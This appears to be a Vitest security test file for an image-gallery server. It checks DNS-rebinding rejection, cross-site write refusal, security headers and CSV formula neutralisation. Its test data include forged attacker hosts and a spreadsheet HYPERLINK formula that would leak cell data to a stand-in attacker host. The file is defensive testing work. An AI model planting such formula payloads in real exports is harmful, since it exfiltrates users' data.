import { request } from 'node:http';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { errorBodySchema } from '../../src/protocol/errors.js';
import { makeTempDir, removeDir } from '../factories/image-tree.js';
import { startTestServer, type TestServer } from '../factories/test-server.js';

/**
 * The boundary to other sites and names (issue 9): DNS rebinding (a foreign `Host`), cross-site
 * writes (a page of another origin posting `/refresh` or beaconing `/presence/leave`), security
 * headers on every answer, and CSV cells a spreadsheet would run as formulas.
 */

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** A raw HTTP request: fetch won't send a forged `Host`, an attacker's browser (after rebinding) will. */
function send(t: TestServer, method: string, path: string, headers: Record<string, string> = {}, body?: string): Promise<Answer> {
  const port = t.server.port;
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method, path, headers: { host: `127.0.0.1:${port}`, ...headers } }, (res) => {
      // The event stream never ends: its status and headers are the answer.
      if (String(res.headers['content-type']).startsWith('text/event-stream')) {
        res.destroy();
        resolve({ status: res.statusCode!, headers: res.headers, body: '' });
        return;
      }
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** A label write on `/a.jpg` against its current version. */
async function patchItem(t: TestServer, headers: Record<string, string>, key: string, body: object): Promise<Answer> {
  const version = String(JSON.parse((await send(t, 'GET', '/item?path=/a.jpg')).body).version);
  return send(t, 'PATCH', '/item?path=/a.jpg', { 'content-type': 'application/json', 'idempotency-key': key, 'if-match': version, ...headers }, JSON.stringify(body));
}

function errorCode(answer: Answer): string {
  return errorBodySchema.parse(JSON.parse(answer.body)).error.code;
}

let web: string;
let t: TestServer;
beforeAll(async () => {
  web = makeTempDir('lenslet-boundary-web-');
  mkdirSync(join(web, 'assets'));
  writeFileSync(join(web, 'index.html'), '<!doctype html><html><head><title>Lenslet</title></head><body></body></html>');
  writeFileSync(join(web, 'assets', 'app-1.js'), 'console.log(1)');
  t = await startTestServer({ 'a.jpg': { w: 8, h: 8 } }, { webDir: web, ogPreview: true, allowedHosts: ['gallery.lan', 'proxy.example:8443'] });
});
afterAll(async () => {
  await t.close();
  removeDir(web);
});

describe('DNS rebinding: a Host that is not one of the server’s names', () => {
  const routes: [string, string][] = [
    ['GET', '/'],
    ['GET', '/assets/app-1.js'],
    ['GET', '/health'],
    ['GET', '/file?path=/a.jpg'],
    ['GET', '/thumb?path=/a.jpg'],
    ['GET', '/export?format=csv'],
    ['GET', '/events'],
    ['GET', '/no/such/route'],
    ['POST', '/refresh'],
  ];

  it('answers 421 misdirected_request on every route, static files and the event stream included', async () => {
    const port = t.server.port;
    for (const host of [`evil.example:${port}`, 'evil.example', `localhost.evil.example:${port}`, `127.0.0.1.nip.io:${port}`, `gallery.lan.evil.example:${port}`, `proxy.example:${port}`]) {
      for (const [method, path] of routes) {
        const answer = await send(t, method, path, { host });
        expect(answer.status, `${method} ${path} with Host ${host}`).toBe(421);
        expect(errorCode(answer)).toBe('misdirected_request');
        expect(answer.headers['x-content-type-options']).toBe('nosniff');
      }
    }
  });

  it('answers the loopback names in any form, the listen address and configured hosts', async () => {
    const port = t.server.port;
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `LocalHost:${port}`, `[::1]:${port}`, `127.1:${port}`, `127.0.0.2:${port}`, `localhost.:${port}`, `gallery.lan:${port}`, 'proxy.example:8443']) {
      expect((await send(t, 'GET', '/health', { host })).status, host).toBe(200);
      expect((await send(t, 'GET', '/file?path=/a.jpg', { host })).status, host).toBe(200);
    }
  });
});

describe('cross-site writes', () => {
  const evil = { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site', 'content-type': 'text/plain' };

  async function itemCount(): Promise<number> {
    return JSON.parse((await send(t, 'GET', '/health')).body).items as number;
  }

  it('refuses a simple cross-site POST /refresh (text/plain, no preflight) before it rescans', async () => {
    await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 1, g: 2, b: 3 } } })
      .png()
      .toFile(join(t.dir, 'new.png'));
    const before = await itemCount();
    const pages: Record<string, string>[] = [evil, { origin: 'http://evil.example', 'content-type': 'text/plain' }, { 'sec-fetch-site': 'cross-site' }, { origin: 'null' }];
    for (const headers of pages) {
      const answer = await send(t, 'POST', '/refresh', headers, 'x');
      expect(answer.status, JSON.stringify(headers)).toBe(403);
      expect(errorCode(answer)).toBe('cross_site_refused');
    }
    expect(await itemCount()).toBe(before);

    // The app's own page may, and so may curl.
    const port = t.server.port;
    const own = await send(t, 'POST', '/refresh', { origin: `http://127.0.0.1:${port}`, 'sec-fetch-site': 'same-origin' });
    expect(own.status).toBe(200);
    expect(JSON.parse(own.body)).toMatchObject({ ok: true, added: 1 });
    expect((await send(t, 'POST', '/refresh')).status).toBe(200);
  });

  it('refuses a cross-site sendBeacon to /presence/leave: the presence stays', async () => {
    const join = JSON.stringify({ gallery_id: 'g1', client_id: 'victim', status: 'viewing' });
    expect((await send(t, 'POST', '/presence', { 'content-type': 'application/json' }, join)).status).toBe(200);
    const beacon = JSON.stringify({ gallery_id: 'g1', client_id: 'victim' });
    const refused = await send(t, 'POST', '/presence/leave', { ...evil, 'sec-fetch-mode': 'no-cors' }, beacon);
    expect(refused.status).toBe(403);
    expect(errorCode(refused)).toBe('cross_site_refused');
    expect(JSON.parse((await send(t, 'GET', '/presence?gallery_id=g1')).body).viewers).toBe(1);

    const port = t.server.port;
    const own = await send(t, 'POST', '/presence/leave', { origin: `http://localhost:${port}`, host: `localhost:${port}`, 'sec-fetch-site': 'same-origin', 'content-type': 'text/plain' }, beacon);
    expect(own.status).toBe(200);
    expect(JSON.parse((await send(t, 'GET', '/presence?gallery_id=g1')).body).viewers).toBe(0);
  });

  it('refuses cross-site label writes, lets header-less clients and a configured proxy origin write', async () => {
    const patch = (headers: Record<string, string>, key: string) => patchItem(t, headers, key, { set_star: 2 });
    expect((await patch({ origin: 'https://evil.example' }, 'x1')).status).toBe(403);
    expect((await patch({ origin: `http://127.0.0.1:${t.server.port + 1}`, 'sec-fetch-site': 'same-site' }, 'x2')).status).toBe(403);
    expect((await patch({}, 'ok1')).status).toBe(200);
    expect((await patch({ host: 'proxy.example:8443', origin: 'https://proxy.example:8443' }, 'ok2')).status).toBe(200);
  });
});

describe('security headers', () => {
  it('gives the web app a CSP that forbids framing, and keeps the og: tags', async () => {
    for (const path of ['/', '/?path=/x', '/index.html']) {
      const page = await send(t, 'GET', path);
      expect(page.status).toBe(200);
      const csp = String(page.headers['content-security-policy']);
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).not.toContain('unsafe-inline');
      expect(page.headers['x-frame-options']).toBe('DENY');
      expect(page.headers['referrer-policy']).toBe('same-origin');
      expect(page.headers['x-content-type-options']).toBe('nosniff');
      expect(page.body).toContain('<meta property="og:image"');
    }
  });

  it('sends nosniff and a locked-down CSP with JSON, images, exports, errors and the event stream', async () => {
    for (const path of ['/health', '/file?path=/a.jpg', '/thumb?path=/a.jpg', '/og-image', '/export?format=csv', '/assets/app-1.js', '/no/such/route', '/events']) {
      const answer = await send(t, 'GET', path);
      expect(answer.status, path).toBeLessThan(500);
      expect(answer.headers['x-content-type-options'], path).toBe('nosniff');
      expect(answer.headers['x-frame-options'], path).toBe('DENY');
      expect(String(answer.headers['content-security-policy']), path).toMatch(/^default-src 'none'.*sandbox$/);
    }
  });
});

describe('CSV export', () => {
  it('neutralises formula cells; the JSON export keeps the note verbatim', async () => {
    const note = '=HYPERLINK("http://evil.example/?"&A1,"open me")';
    const write = await patchItem(t, { 'x-lenslet-user': '@attacker' }, 'csv-1', { set_notes: note });
    expect(write.status).toBe(200);
    const csv = (await send(t, 'GET', '/export?format=csv')).body;
    const row = csv.split('\r\n').find((line) => line.startsWith('/a.jpg,'))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open me"")"`);
    expect(row.endsWith(",'@attacker,,")).toBe(true); // updated_by, then the empty `missing` and `assignee` cells
    const json = JSON.parse((await send(t, 'GET', '/export?format=json')).body) as { path: string; notes: string; updated_by: string }[];
    expect(json.find((r) => r.path === '/a.jpg')).toMatchObject({ notes: note, updated_by: '@attacker' });
  });
});
